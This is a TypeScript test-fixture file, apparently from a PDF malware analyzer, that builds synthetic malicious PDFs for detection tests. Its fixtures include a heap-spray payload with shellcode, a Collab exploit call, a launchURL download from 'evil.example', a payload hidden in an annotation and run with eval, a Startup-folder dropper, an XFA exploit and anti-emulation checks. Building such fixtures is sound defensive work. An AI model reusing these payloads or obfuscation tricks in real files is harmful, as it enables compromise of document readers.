// Test-only: PDFs built in code whose scripts show one technique each, and a helper that runs the
// whole JavaScript analysis on them (reader, facts, context, analyzeScripts) with the given engines.
// Nothing in the product imports this file.
import { resolveLimits, type Limits } from "../../../limits";
import { readPdf } from "../../../pdf/document";
import { PdfBuilder, hexString } from "../../../pdf/testing/pdf-builder";
import { collectFacts, type DocumentFacts } from "../../facts/document-facts";
import { analyzeScripts, type ParseDeepFn, type ScriptsAnalysis } from "../analyze-scripts";
import type { EmulateFn } from "../emulation";
import { collectScriptContext } from "../script-context";

export const SLED = "%u9090".repeat(24);
/** msfvenom-style prologue: cld; call; pushad; mov ebp,esp; xor eax,eax; mov edx,fs:[eax+0x30] */
export const SHELLCODE =
  "%ue8fc%u0082%u0000%u8960%u31e5%u64c0%u508b%u8b30%u0c52%u528b%u8b14%u2872%ub70f%u264a%uff31%u3cac";

/** The second stage of an annotation-hidden kit: spray, exploit call, download. */
export const PAYLOAD = [
  `var sc = unescape("${SLED}" + "${SHELLCODE}");`,
  `var b = unescape("%u0c0c%u0c0c"); while (b.length < 0x8000) b += b;`,
  `var m = new Array(); for (var i = 0; i < 128; i++) m[i] = b + sc;`,
  `Collab["collect" + "EmailInfo"]({ subj: "", msg: b.substr(0, 64) });`,
  `app.launchURL("http://evil.example/drop.exe", true);`,
].join("\n");

/** The kit of corpus 2602deeaa437 and kin: the payload hex-escaped in an annotation's /Subj. */
export function annotationKitPdf(): Uint8Array {
  const hidden = Array.from(PAYLOAD, (c) => `z${c.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
  const opener = `var z = app.doc; z.syncAnnotScan(); var p = z.getAnnots({ nPage: 0 }); var s = p[0].subject; eval(unescape(s.replace(/z/g, "%")));`;
  const b = new PdfBuilder();
  const annot = b.add(`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj ${hexString(hidden)} >>`);
  b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString(opener)} >>`, 1, `/Annots [${annot} 0 R]`);
  return b.build();
}

/** A page-open script that never ends, and a plain form field handler. */
export function loopAndFormPdf(): Uint8Array {
  const b = new PdfBuilder();
  const field = b.add(
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /Rect [0 0 10 10] /AA << /K << /S /JavaScript /JS (event.value = this.getField\\("a"\\).value;) >> >> >>`,
  );
  b.addCatalog(
    `/AcroForm << /Fields [${field} 0 R] >>`,
    1,
    `/Annots [${field} 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\("x"\\); while \\(true\\) {}) >> >>`,
  );
  return b.build();
}

/**
 * A dropper whose write the text does not show: the API's name joined at run time and the Startup
 * path decoded from character codes, so only the sandbox sees `this.saveAs` and where it writes.
 */
export function hiddenDropperPdf(): Uint8Array {
  const path = "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/sync.js";
  const codes = Array.from(path, (c) => c.charCodeAt(0)).join(",");
  const script = `var p = String.fromCharCode(${codes}); var m = "sa" + "veAs"; this[m]({ cPath: p, bPromptToOverwrite: false });`;
  const b = new PdfBuilder();
  b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString(script)} >>`, 1);
  return b.build();
}

/** An XFA form whose initialize script sets a TIFF image and keep.previous. */
export function xfaExploitPdf(): Uint8Array {
  const b = new PdfBuilder();
  const xml =
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="ImageField1"/>` +
    `<event activity="initialize"><script contentType="application/x-javascript">var t = "SUkqADggAAB" + "BQUFBQUFB"; ImageField1.rawValue = t; xfa.resolveNode("form1.rect1").keep.previous = "contentArea";</script></event>` +
    `</subform></template></xdp:xdp>`;
  const xfa = b.addStream("", xml);
  b.addCatalog(`/AcroForm << /Fields [] /XFA ${xfa} 0 R >>`);
  return b.build();
}

/**
 * An XFA form that keeps its next stage hex-encoded in a template field's default value and in the
 * data packet; the initialize script reads both through the XFA object model, decodes and evals them.
 */
export function xfaHeldPayloadPdf(): Uint8Array {
  const hex = (t: string) => Array.from(t, (c) => c.charCodeAt(0).toString(16).padStart(2, "0")).join("");
  const stage = `Collab.getIcon("N.bundle"); xfa.host.messageBox("done"); xfa.host.someNewerApi(1);`;
  const [a, b] = [stage.slice(0, 20), stage.slice(20)];
  const script =
    `var h = xfa.resolveNode("form1.hold").rawValue + xfa.datasets.data.form1.rest.value; var s = "";` +
    ` for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); eval(s);`;
  const xml =
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="hold"><value><text>${hex(a)}</text></value></field>` +
    `<event activity="initialize"><script contentType="application/x-javascript">${script}</script></event></subform></template>` +
    `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><rest>${hex(b)}</rest></form1></xfa:data></xfa:datasets></xdp:xdp>`;
  const b2 = new PdfBuilder();
  const xfa = b2.addStream("", xml);
  b2.addCatalog(`/AcroForm << /Fields [] /XFA ${xfa} 0 R >>`);
  return b2.build();
}

/** The same benign handler on many widgets, and a document-level script with a helper function. */
export function benignFormPdf(widgets = 20): Uint8Array {
  const b = new PdfBuilder();
  const fields: number[] = [];
  for (let i = 0; i < widgets; i++)
    fields.push(
      b.add(
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f${i}) /V (v${i}) /Rect [0 0 10 10] /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);) >> >> >>`,
      ),
    );
  const helper = b.add(
    `<< /S /JavaScript /JS (function total\\(\\) { var s = 0; for \\(var i = 0; i < 20; i++\\) s += Number\\(this.getField\\("f" + i\\).value\\) || 0; return s; } app.alert\\("Form ready"\\);) >>`,
  );
  const refs = fields.map((f) => `${f} 0 R`).join(" ");
  b.addCatalog(
    `/AcroForm << /Fields [${refs}] >> /Names << /JavaScript << /Names [(helper) ${helper} 0 R] >> >>`,
    1,
    `/Annots [${refs}]`,
  );
  return b.build();
}

/** An OpenAction whose script concatenates `terms` strings: deeper than the main thread's parser stack. */
export function deepConcatenationPdf(terms: number): Uint8Array {
  const js = `var s = ${Array.from({ length: terms }, () => `"%u0c0c"`).join("+")}; app.alert(s.length);`;
  const b = new PdfBuilder();
  const stream = b.addFlateStream("", js);
  b.addCatalog(`/OpenAction << /S /JavaScript /JS ${stream} 0 R >>`);
  return b.build();
}

/**
 * An OpenAction that keeps its code as "@"-delimited character codes and runs it through an eval
 * alias; the decoded layer throws when it finds fewer plug-ins than a real Reader has (anti-emulation).
 * With `clear`, the same failing check written in the clear.
 */
export function obfuscatedFailingPdf(clear = false): Uint8Array {
  const check = `if (app.plugIns.length < 100) throw new Error("not a real viewer"); app.alert("ok");`;
  const codes = Array.from(check, (c) => c.charCodeAt(0)).join("@");
  const js = clear
    ? check
    : `var d = eval; var s = "${codes}".split("@"), t = ""; for (var i = 0; i < s.length; i++) t += String.fromCharCode(s[i]); d(t);`;
  const b = new PdfBuilder();
  b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString(js)} >>`);
  return b.build();
}

/** `count` document-level scripts, each a different endless loop (distinct sources: none is deduplicated). */
export function manyLoopsPdf(count: number): Uint8Array {
  const b = new PdfBuilder();
  const names: string[] = [];
  for (let i = 0; i < count; i++)
    names.push(
      `(s${String(i).padStart(3, "0")}) ${b.add(`<< /S /JavaScript /JS (var n${i} = 0; while \\(true\\) n${i}++;) >>`)} 0 R`,
    );
  b.addCatalog(`/Names << /JavaScript << /Names [${names.join(" ")}] >> >>`);
  return b.build();
}

export interface Analyzed {
  facts: DocumentFacts;
  result: ScriptsAnalysis;
}

/** Reads `pdf`, collects its scripts and context, and runs analyzeScripts; the facts with its javascript. */
export async function analyzePdfScripts(
  pdf: Uint8Array,
  engines: { emulate?: EmulateFn; parseDeep?: ParseDeepFn },
  limits: Partial<Limits> = {},
): Promise<Analyzed> {
  const l = resolveLimits({ JS_CPU_MS: 1500, ...limits });
  const doc = readPdf(pdf, l);
  const fast = collectFacts(doc, l);
  const result = await analyzeScripts(fast.scripts, {
    ...engines,
    limits: l,
    docContext: collectScriptContext(doc, { fileName: "fixture.pdf" }),
  });
  return { facts: { ...fast, javascript: result.scripts }, result };
}
